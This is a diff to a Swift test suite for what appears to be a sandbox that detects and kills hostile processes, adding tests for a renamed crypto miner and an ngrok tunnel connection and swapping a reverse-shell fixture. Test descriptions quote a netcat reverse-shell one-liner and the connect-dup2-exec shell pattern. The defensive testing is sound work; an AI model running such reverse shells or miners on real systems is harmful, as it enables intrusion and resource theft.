@@ -32,6 +32,17 @@ func expectCaught(_ r: Pack.Run, rule: String, action: String, fixture: String, 
         #expect(pool.connections == 0)
     }
 
+    /// A statically linked miner under an innocent name: its contents give it away at the exec stop.
+    @Test func minerByContents() throws {
+        let box = Sandbox()
+        let renamed = box.work + "/build-helper"
+        try FileManager.default.copyItem(atPath: Harness.fixture("fakeminer_static"), toPath: renamed)
+        let r = try Pack.run([renamed], sandbox: box)
+        #expect(!r.stdout.contains("worker ready"))
+        expectCaught(r, rule: "Miner binary by its contents", action: "kill", fixture: "src/fakeminer_static.c",
+                     behaviour: "static miner renamed build-helper (RandomX/CryptoNight markers)")
+    }
+
     @Test func stratumURLOnCommandLine() throws {
         let box = Sandbox()
         let pool = try LoopbackServer()
@@ -111,8 +122,8 @@ func expectCaught(_ r: Pack.Run, rule: String, action: String, fixture: String, 
         let box = Sandbox()
         let c = try catcher()
         defer { c.stop() }
-        let r = try Pack.run([Harness.fixture("revshell"), "\(c.port)", "shell"], sandbox: box)
-        expectCaught(r, rule: "Reverse shell", action: "kill", fixture: "src/revshell.c",
+        let r = try Pack.run([Harness.fixture("rogue_revshell"), "\(c.port)"], sandbox: box)
+        expectCaught(r, rule: "Reverse shell", action: "kill", fixture: "src/rogue_revshell.c",
                      behaviour: "connect, dup2 onto 0/1/2, exec /bin/sh", bytes: c.settledBytes())
     }
 
@@ -187,6 +198,20 @@ func expectCaught(_ r: Pack.Run, rule: String, action: String, fixture: String, 
                      behaviour: "sh -c \"mkfifo f; cat f | sh -i | nc HOST PORT > f\"", bytes: c.settledBytes())
         #expect(c.connections == 0)
         #expect(!box.exists("work/f"), "killed before mkfifo")
+    }
+
+    /// Whatever program does it: the name it resolved is the tunnel service's control endpoint.
+    @Test func tunnelServiceByResolvedName() throws {
+        let box = Sandbox()
+        let (dns, dnsPort) = try HostnameTests.responder()
+        defer { dns.terminate() }
+        let service = try LoopbackServer()
+        defer { service.stop() }
+        let r = try Pack.run(["/usr/bin/python3", Pack.rogue + "tunnel_service.py", "connect.ngrok-agent.com", "\(dnsPort)",
+                              "\(service.port)"], sandbox: box, options: ["--dns-server", "127.0.0.1:\(dnsPort)"])
+        expectCaught(r, rule: "Connection to a tunnel service", action: "kill", fixture: "rogue/tunnel_service.py",
+                     behaviour: "resolve connect.ngrok-agent.com, connect to it", bytes: service.settledBytes())
+        #expect(service.connections == 0)
     }
 
     @Test func sshRemoteForward() throws {
